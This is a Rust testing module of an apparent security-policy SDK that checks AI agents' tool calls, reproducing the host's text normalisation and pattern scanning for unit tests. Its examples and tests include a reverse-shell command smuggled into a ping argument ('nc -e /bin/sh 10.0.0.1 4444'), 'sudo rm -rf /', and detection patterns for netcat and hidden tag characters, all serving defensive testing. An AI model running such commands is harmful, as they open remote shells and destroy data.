//! A native stand-in for the host, for unit tests of a policy's logic.
//!
//! The host normalises every text field of an event and runs the policy's
//! [`Pattern`](crate::Pattern)s over it before it calls the policy. This module does the
//! same natively, so that a test can check a policy against real text
//! instead of hand-built findings:
//!
//! ```
//! use portcullis_sdk::serde_json::json;
//! use portcullis_sdk::{
//!     Context, EventKind, Finding, Metadata, Outcome, Pattern, Policy, ToolCall, Verdict, testing,
//! };
//!
//! struct NoNetcat;
//!
//! impl Policy for NoNetcat {
//!     fn metadata() -> Metadata {
//!         Metadata::new("no-netcat", "1")
//!             .on(EventKind::ToolCall)
//!             .pattern(Pattern::regex("netcat", r"\bnc\s+-e\b"))
//!     }
//!
//!     fn check_call(_: &Context, _: &ToolCall, findings: &[Finding]) -> Outcome {
//!         match findings.first() {
//!             Some(found) => Outcome::with(Verdict::Deny, "netcat", format!("{}: {}", found.field, found.matched)),
//!             None => Outcome::allow(),
//!         }
//!     }
//! }
//!
//! let call = testing::call("ping", json!({ "host": "localhost; NC -e /bin/sh 10.0.0.1 4444" }));
//! let findings = testing::call_findings(&NoNetcat::metadata(), &call);
//! let outcome = NoNetcat::check_call(&testing::context(), &call, &findings);
//! assert_eq!(outcome.verdict, Verdict::Deny);
//! assert_eq!(outcome.reasons[0].message, "/arguments/host: nc -e");
//! ```
//!
//! It runs the host's own text pipeline, [`portcullis_text`]: the same
//! field extraction, normalisation, prefilter (with its ordering and caps)
//! and tool digest as the engine. A finding a test sees is a finding the
//! engine gives the policy for the same text.
//!
//! Available with the `testing` feature, which policies enable for their
//! dev-dependency on this crate.

use std::cell::RefCell;
use std::collections::HashMap;
use std::rc::Rc;

use portcullis_text::fields::{self, TextField, ToolText};
use portcullis_text::prefilter::{self, PatternSpec, Prefilter};
use serde_json::Value;

use crate::{
    BuiltinDetector, Context, Finding, Matcher, Metadata, Outcome, Policy, Tool, ToolCall,
    ToolResult, Verdict,
};

/// A context for one test session: no tenant, principal or client, the
/// first event of the session.
pub fn context() -> Context {
    Context {
        session: "test-session".into(),
        server: "test-server".into(),
        tenant: None,
        principal: None,
        client: None,
        timestamp_ms: 0,
        sequence: 1,
    }
}

/// A tool definition, with the digest the host gives it.
pub fn tool(name: &str, description: &str, input_schema: Value, annotations: Value) -> Tool {
    let digest = portcullis_text::digest::tool_digest(&ToolText {
        name,
        description,
        input_schema: &input_schema,
        annotations: &annotations,
        other: &serde_json::Map::new(),
    });
    Tool {
        name: name.into(),
        description: description.into(),
        input_schema: input_schema.to_string(),
        annotations: annotations.to_string(),
        digest,
    }
}

/// A call to a tool the host has not seen advertised.
pub fn call(name: &str, arguments: Value) -> ToolCall {
    ToolCall {
        name: name.into(),
        arguments: arguments.to_string(),
        tool: None,
    }
}

/// The result of `call`.
pub fn result(call: ToolCall, response: Value) -> ToolResult {
    ToolResult {
        call,
        response: response.to_string(),
    }
}

/// The findings the host would give a policy with `metadata` for `tool`.
///
/// # Panics
/// When one of the patterns is not a valid regular expression.
pub fn tool_findings(metadata: &Metadata, tool: &Tool) -> Vec<Finding> {
    let input_schema = tool.input_schema_json();
    let annotations = tool.annotations_json();
    scan(
        metadata,
        &fields::tool_fields(&ToolText {
            name: &tool.name,
            description: &tool.description,
            input_schema: &input_schema,
            annotations: &annotations,
            other: &serde_json::Map::new(),
        }),
    )
}

/// The findings the host would give a policy with `metadata` for `call`.
///
/// # Panics
/// When one of the patterns is not a valid regular expression.
pub fn call_findings(metadata: &Metadata, call: &ToolCall) -> Vec<Finding> {
    scan(metadata, &fields::call_fields(&call.arguments_json()))
}

/// The findings the host would give a policy with `metadata` for `result`.
///
/// # Panics
/// When one of the patterns is not a valid regular expression.
pub fn result_findings(metadata: &Metadata, result: &ToolResult) -> Vec<Finding> {
    scan(metadata, &fields::result_fields(&result.response_json()))
}

/// Runs `P`'s call check on a call to `name`, with the findings the host's
/// prefilter would give it for `P`'s patterns.
pub fn check_call<P: Policy>(name: &str, arguments: Value) -> Outcome {
    let call = call(name, arguments);
    let findings = call_findings(&P::metadata(), &call);
    P::check_call(&context(), &call, &findings)
}

/// Runs `P` on every case of a `cases.jsonl` file natively, with the
/// findings the host's prefilter gives it, and panics listing every case
/// whose verdict or rule differs from what it expects.
///
/// The format is the one `portcullis policy test` reads, so the same file
/// also runs through the real engine: one JSON object a line with an `id`, a
/// `kind` (`tool_description` with `tool` and an optional `previous_tool`
/// decided first in the same session, `tool_call` with `call`, or
/// `tool_result` with `call` and `result`), the `expect`ed verdict and an
/// optional `expect_rule` that must be among the reasons. Each case is a
/// session of its own.
///
/// ```
/// # use portcullis_sdk::{Context, EventKind, Finding, Metadata, Outcome, Pattern, Policy, ToolCall, Verdict, testing};
/// struct NoNetcat;
/// impl Policy for NoNetcat {
///     fn metadata() -> Metadata {
///         Metadata::new("no-netcat", "1")
///             .on(EventKind::ToolCall)
///             .pattern(Pattern::regex("netcat", r"\bnc\s+-e\b"))
///     }
///     fn check_call(_: &Context, _: &ToolCall, findings: &[Finding]) -> Outcome {
///         match findings.first() {
///             Some(_) => Outcome::with(Verdict::Deny, "netcat", "opens a shell"),
///             None => Outcome::allow(),
///         }
///     }
/// }
/// testing::check_cases::<NoNetcat>(r#"
/// {"id": "shell", "kind": "tool_call", "call": {"name": "ping", "arguments": {"host": "x; nc -e sh h 1"}}, "expect": "deny", "expect_rule": "netcat"}
/// {"id": "plain", "kind": "tool_call", "call": {"name": "ping", "arguments": {"host": "example.org"}}, "expect": "allow"}
/// "#);
/// ```
///
/// # Panics
/// When a case fails, or a line is not a case.
pub fn check_cases<P: Policy>(cases: &str) {
    let failures: Vec<String> = cases
        .lines()
        .enumerate()
        .filter(|(_, line)| !line.trim().is_empty())
        .filter_map(|(index, line)| {
            let case: Value = serde_json::from_str(line)
                .unwrap_or_else(|error| panic!("line {}: not JSON: {error}", index + 1));
            let id = case["id"].to_string();
            let outcome = run_case::<P>(&case)
                .unwrap_or_else(|error| panic!("line {} ({id}): {error}", index + 1));
            let expect = match case["expect"].as_str() {
                Some("allow") => Verdict::Allow,
                Some("escalate") => Verdict::Escalate,
                Some("deny") => Verdict::Deny,
                _ => panic!(
                    "line {} ({id}): `expect` must be allow, escalate or deny",
                    index + 1
                ),
            };
            let rule = case["expect_rule"].as_str();
            let rule_ok = rule.is_none_or(|rule| rules(&outcome).contains(&rule));
            (outcome.verdict != expect || !rule_ok).then(|| {
                format!(
                    "line {} ({id}): expected {expect:?}{}, got {:?} {:?}",
                    index + 1,
                    rule.map(|rule| format!(" by {rule}")).unwrap_or_default(),
                    outcome.verdict,
                    rules(&outcome)
                )
            })
        })
        .collect();
    assert!(
        failures.is_empty(),
        "cases failed:\n{}",
        failures.join("\n")
    );
}

/// Decides one case in a fresh session.
fn run_case<P: Policy>(case: &Value) -> Result<Outcome, String> {
    crate::state::clear();
    crate::labels::clear();
    let tool_of = |value: &Value| {
        let text = |key: &str| value[key].as_str().unwrap_or_default().to_owned();
        let object = |key: &str| match &value[key] {
            Value::Null => Value::Object(Default::default()),
            other => other.clone(),
        };
        tool(
            &text("name"),
            &text("description"),
            object("inputSchema"),
            object("annotations"),
        )
    };
    let call_of = |case: &Value| {
        let call = &case["call"];
        let name = call["name"].as_str().ok_or("the case needs `call.name`")?;
        let arguments = match &call["arguments"] {
            Value::Null => Value::Object(Default::default()),
            other => other.clone(),
        };
        Ok::<_, String>(self::call(name, arguments))
    };
    let metadata = P::metadata();
    let context = context();
    match case["kind"].as_str() {
        Some("tool_description") => {
            if !case["previous_tool"].is_null() {
                let previous = tool_of(&case["previous_tool"]);
                P::check_tool(&context, &previous, &tool_findings(&metadata, &previous));
            }
            let tool = tool_of(&case["tool"]);
            Ok(P::check_tool(
                &context,
                &tool,
                &tool_findings(&metadata, &tool),
            ))
        }
        Some("tool_call") => {
            let call = call_of(case)?;
            Ok(P::check_call(
                &context,
                &call,
                &call_findings(&metadata, &call),
            ))
        }
        Some("tool_result") => {
            let result = result(call_of(case)?, case["result"].clone());
            Ok(P::check_result(
                &context,
                &result,
                &result_findings(&metadata, &result),
            ))
        }
        other => Err(format!(
            "unknown kind {other:?}: expected tool_description, tool_call or tool_result"
        )),
    }
}

/// The rule of each reason of an outcome, in order.
pub fn rules(outcome: &Outcome) -> Vec<&str> {
    outcome
        .reasons
        .iter()
        .map(|reason| reason.rule.as_str())
        .collect()
}

/// The host's normal form of a text field.
pub fn normalize(text: &str) -> String {
    portcullis_text::normalize::normalize(text).text
}

/// Runs the host's prefilter for `metadata`'s patterns over `fields`.
///
/// The prefilter is built once per thread and set of patterns, as the
/// engine builds it once per policy generation.
///
/// # Panics
/// When a pattern is one the host would refuse to load.
fn scan(metadata: &Metadata, fields: &[TextField<'_>]) -> Vec<Finding> {
    thread_local! {
        static PREFILTERS: RefCell<HashMap<Vec<PatternSpec>, Rc<Prefilter>>> =
            RefCell::new(HashMap::new());
    }
    let specs: Vec<PatternSpec> = metadata.patterns.iter().map(spec).collect();
    let prefilter = PREFILTERS.with(|cache| {
        let mut cache = cache.borrow_mut();
        if let Some(prefilter) = cache.get(&specs) {
            return Rc::clone(prefilter);
        }
        let prefilter = Rc::new(
            Prefilter::new(&specs)
                .unwrap_or_else(|error| panic!("policy {}: {error}", metadata.name)),
        );
        cache.insert(specs.clone(), Rc::clone(&prefilter));
        prefilter
    });
    prefilter
        .scan(fields)
        .matches
        .into_iter()
        .map(|found| Finding {
            pattern: specs[found.pattern].id.clone(),
            field: found.field,
            start: found.start,
            end: found.end,
            matched: found.matched,
        })
        .collect()
}

/// A policy's pattern as the host reads it from the policy's metadata.
fn spec(pattern: &crate::Pattern) -> PatternSpec {
    PatternSpec {
        id: pattern.id.clone(),
        matcher: match &pattern.matcher {
            Matcher::Literal(literal) => prefilter::Matcher::Literal(literal.clone()),
            Matcher::Regex(source) => prefilter::Matcher::Regex(source.clone()),
            Matcher::Builtin(detector) => prefilter::Matcher::Builtin(match detector {
                BuiltinDetector::InvisibleCharacters => {
                    prefilter::BuiltinDetector::InvisibleCharacters
                }
                BuiltinDetector::TagCharacters => prefilter::BuiltinDetector::TagCharacters,
                BuiltinDetector::BidiControls => prefilter::BuiltinDetector::BidiControls,
            }),
        },
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::Pattern;

    #[test]
    fn normalize_decodes_tags_and_drops_invisible_characters() {
        assert_eq!(normalize("Ｉg\u{200B}nore\u{E0041}\u{E0042}"), "ignoreab");
    }

    #[test]
    fn findings_name_the_field_and_the_normalised_match() {
        let metadata = Metadata::new("t", "0")
            .pattern(Pattern::literal("lit", "RM -RF"))
            .pattern(Pattern::regex("re", r"nc\s+-e"))
            .pattern(Pattern::builtin("tags", BuiltinDetector::TagCharacters));
        let call = call(
            "run",
            json!({ "command": "sudo rm -rf /", "options": ["x", "NC -e sh\u{E0068}\u{E0069}"] }),
        );
        let findings = call_findings(&metadata, &call);
        let summary: Vec<(&str, &str, &str)> = findings
            .iter()
            .map(|f| (f.pattern.as_str(), f.field.as_str(), f.matched.as_str()))
            .collect();
        assert_eq!(
            summary,
            [
                ("lit", "/arguments/command", "rm -rf"),
                ("re", "/arguments/options/1", "nc -e"),
                ("tags", "/arguments/options/1", "hi"),
            ]
        );
        assert_eq!((findings[0].start, findings[0].end), (5, 11));
    }

    #[test]
    fn tool_fields_cover_schema_and_annotations() {
        let metadata = Metadata::new("t", "0").pattern(Pattern::literal("secret", "secret"));
        let tool = tool(
            "secret_tool",
            "A secret",
            json!({ "properties": { "x": { "description": "secret" } } }),
            json!({ "title": "Secret" }),
        );
        let fields: Vec<String> = tool_findings(&metadata, &tool)
            .into_iter()
            .map(|f| f.field)
            .collect();
        assert_eq!(
            fields,
            [
                "name",
                "description",
                "/inputSchema/properties/x/description",
                "/annotations/title"
            ]
        );
    }

    #[test]
    fn equal_definitions_have_equal_digests() {
        let a = tool("t", "d", json!({}), json!({}));
        let b = tool("t", "d", json!({}), json!({}));
        let c = tool("t", "changed", json!({}), json!({}));
        assert_eq!(a.digest, b.digest);
        assert_ne!(a.digest, c.digest);
    }
}
